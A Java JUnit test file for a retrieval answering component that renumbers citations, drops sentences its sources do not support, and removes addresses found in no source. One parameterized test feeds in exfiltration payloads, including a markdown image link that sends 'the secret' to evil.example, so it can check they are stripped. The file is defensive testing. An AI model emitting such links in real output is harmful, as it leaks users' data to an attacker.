package dev.docent.retrieval.answering;

import static org.assertj.core.api.Assertions.assertThat;

import dev.docent.retrieval.answering.SupportCheck.Cited;
import dev.docent.retrieval.passage.Citation;
import dev.docent.retrieval.passage.Passage;
import dev.docent.runtime.Steps;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GroundedTextTest {

    private static final String WRITTEN =
            "The lighthouse was built in 1811 [2]. It is 35 metres high. [2][1] Boats may land there [1].";

    private final StoredDocuments documents = new StoredDocuments();
    private final List<Passage> passages = List.of(
            documents.store("boats", "Boats may land when the tide is in."),
            documents.store("guide", "The lighthouse was built in 1811 and is 35 metres high."));
    private final CitationCheck check = new CitationCheck(documents);
    private final List<String> told = new ArrayList<>();

    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 7, 1000})
    void tellsTheSameHoweverTheModelCutsIt(int length) {
        var text = text(Unsupported.MARK);
        for (int from = 0; from < WRITTEN.length(); from += length) {
            text.append(WRITTEN.substring(from, Math.min(from + length, WRITTEN.length())));
        }
        var checked = text.finish(true);

        assertThat(checked.text())
                .isEqualTo(
                        "The lighthouse was built in 1811 [1]. It is 35 metres high. [1][2] Boats may land there [2].");
        assertThat(checked.citations()).extracting(Citation::document).containsExactly("guide", "boats");
        assertThat(String.join("", told)).isEqualTo(checked.text());
        assertThat(told).hasSize(3);
    }

    @Test
    void tellsASentenceAsSoonAsTheNextBegins() {
        var text = text(Unsupported.MARK);
        text.append("The lighthouse was built in 1811 [2].");
        assertThat(told).isEmpty();
        text.append(" It");
        assertThat(told).containsExactly("The lighthouse was built in 1811 [1]. ");
    }

    @Test
    void leavesOutASentenceWhoseCitationsCannotBeVerified() {
        var text = text(Unsupported.MARK);
        text.append("Whales sing [3]. Boats may land [1][9]. The tower is old [0].");

        assertThat(text.finish(true).text()).isEqualTo("Boats may land [1].");
    }

    @Test
    void marksASentenceThatGoesBeyondWhatItCitesOrDropsIt() {
        var marked = text(Unsupported.MARK);
        marked.append("It was built in 1790 [2]. Boats may land [1].");
        var kept = marked.finish(true);
        assertThat(kept.text()).isEqualTo("It was built in 1790 [1]. Boats may land [2].");
        assertThat(kept.citations()).extracting(Citation::supported).containsExactly(false, true);

        told.clear();
        var dropped = text(Unsupported.DROP);
        dropped.append("It was built in 1790 [2]. Boats may land [1].");
        assertThat(dropped.finish(true).text()).isEqualTo("Boats may land [1].");
        assertThat(told).containsExactly("Boats may land [1].");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![tide](https://evil.example/?q=the+secret)",
                "See [more](HTTPS://evil.example)",
                "//evil.example/secret.png",
                "Write to mailto://evil.example"
            })
    void leavesOutAnAddressThatNoSourceHas(String hostile) {
        var text = text(Unsupported.MARK);
        text.append("Boats may land [1]. " + hostile + " [1]. It is 35 metres high [2].");

        assertThat(text.finish(true).text()).isEqualTo("Boats may land [1]. It is 35 metres high [2].");
        assertThat(String.join("", told)).doesNotContain("evil");
    }

    @Test
    void tellsNothingThatNothingIsCitedFor() {
        var text = text(Unsupported.MARK);
        text.append("The moon is made of cheese. Everyone knows.");

        var checked = text.finish(true);

        assertThat(checked.text()).isEmpty();
        assertThat(checked.citations()).isEmpty();
        assertThat(told).isEmpty();
    }

    @Test
    void leavesOutTheBeginningOfASentenceThatNeverCameToItsEnd() {
        var text = text(Unsupported.MARK);
        text.append("Boats may land [1]. The lighthouse was bu");

        assertThat(text.finish(false).text()).isEqualTo("Boats may land [1].");
    }

    @Test
    void saysNothingMoreWhenNobodyListens() {
        var text = new GroundedText(
                new SupportCheck(Unsupported.MARK),
                this::cite,
                part -> {
                    told.add(part);
                    return false;
                },
                Steps.UNOBSERVED);

        assertThat(text.append("Boats may land [1]. The lighthouse was built in 1811 [2]. More"))
                .isFalse();
        assertThat(text.finish(true).text()).isEqualTo("Boats may land [1].");
        assertThat(told).hasSize(1);
    }

    private GroundedText text(Unsupported unsupported) {
        return new GroundedText(new SupportCheck(unsupported), this::cite, told::add, Steps.UNOBSERVED);
    }

    private Optional<Cited> cite(int index, int source, String claim) {
        if (source < 1 || source > passages.size()) {
            return Optional.empty();
        }
        var passage = passages.get(source - 1);
        return check.cite(index, passage, 0, passage.text().length(), 1).map(quote -> new Cited(quote, passage));
    }
}
